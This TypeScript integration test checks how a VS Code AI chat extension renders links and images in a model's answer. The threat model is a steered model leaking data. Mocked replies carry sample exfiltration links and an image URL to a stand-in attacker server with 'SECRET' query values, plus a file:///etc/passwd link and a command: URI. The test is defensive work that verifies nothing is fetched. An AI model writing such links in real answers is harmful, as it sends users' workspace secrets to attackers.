// Links and images in an answer in a real VS Code, where a steered model may write a link that carries data out.
// A loopback server stands in for the attacker's: a click reaches it only if something fetched or navigated, and
// the host's vscode.env.openExternal (replaced here, as VS Code allows in extension tests) records what it was asked.
import * as assert from 'node:assert/strict';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as vscode from 'vscode';
import { textReply, type OpenAITestServer } from '../support/openaiTestServer';
import { askComet, newChat, setUpComet } from './helpers';
import { click, evaluate, waitFor } from './webview';

describe('links in answers in a real VS Code', () => {
  let server: OpenAITestServer;
  let attacker: http.Server;
  let attackerUrl: string;
  const attackerRequests: string[] = [];
  const opened: string[] = [];
  const realOpenExternal = vscode.env.openExternal;

  before(async () => {
    server = await setUpComet();
    attacker = http.createServer((request, response) => {
      attackerRequests.push(request.url ?? '');
      response.end('leaked');
    });
    await new Promise<void>(resolve => attacker.listen(0, '127.0.0.1', resolve));
    attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    (vscode.env as { openExternal: typeof vscode.env.openExternal }).openExternal = async uri => {
      opened.push(uri.toString(true));
      return true;
    };
  });
  after(async () => {
    (vscode.env as { openExternal: typeof vscode.env.openExternal }).openExternal = realOpenExternal;
    await new Promise(resolve => attacker.close(resolve));
    await server.close();
  });
  beforeEach(async () => {
    server.reset();
    await newChat();
  });

  it('a click asks the host to open the whole URL and the webview fetches nothing', async () => {
    const leak = `${attackerUrl}/collect?q=SECRET-FROM-WORKSPACE`;
    server.enqueue(textReply([
      `Read [the docs](${leak}) first.\n\n`,
      `Or [this file](file:///etc/passwd), [a command](command:workbench.action.reload).\n\n`,
      `![diagram](${attackerUrl}/pixel.png?d=SECRET-IMAGE)\n`,
    ]));
    await askComet('Where are the docs?');
    // What the user sees once drawn: a finished block below the fold skips rendering (content-visibility), and
    // innerText leaves it out until the chat has scrolled to its end on the next frame.
    await evaluate('new Promise(resolve => requestAnimationFrame(() => requestAnimationFrame(resolve)))');
    const shown = await evaluate<{ links: Array<[string, string | null]>; hrefs: number; text: string }>(`(() => {
      const body = Array.from(document.querySelectorAll('[data-role=assistant]')).at(-1);
      return {
        links: Array.from(body.querySelectorAll('a')).map(a => [a.textContent, a.dataset.href ?? null]),
        hrefs: body.querySelectorAll('[href], img[src^=http]').length,
        text: body.innerText,
      };
    })()`);
    assert.deepEqual(shown.links, [['the docs', leak]]);
    assert.equal(shown.hrefs, 0);
    assert.match(shown.text, /this file, a command/);
    assert.match(shown.text, new RegExp(`\\[image: diagram\\] ${attackerUrl.replace(/[.]/g, '\\.')}/pixel\\.png\\?d=SECRET-IMAGE`));

    await click('[data-role=assistant] a[data-href]');
    await waitFor('the host to be asked to open the link', async () => opened.length > 0);
    assert.deepEqual(opened, [leak]);
    // The other links are text: clicking them asks nothing.
    await click('[data-role=assistant] .markdown p:nth-of-type(2)');
    // One more round trip through the host, so a request the clicks might have started has had time to arrive.
    server.enqueue(textReply(['ok']));
    await askComet('thanks');
    assert.deepEqual(opened, [leak]);
    assert.deepEqual(attackerRequests, []);
  });
});
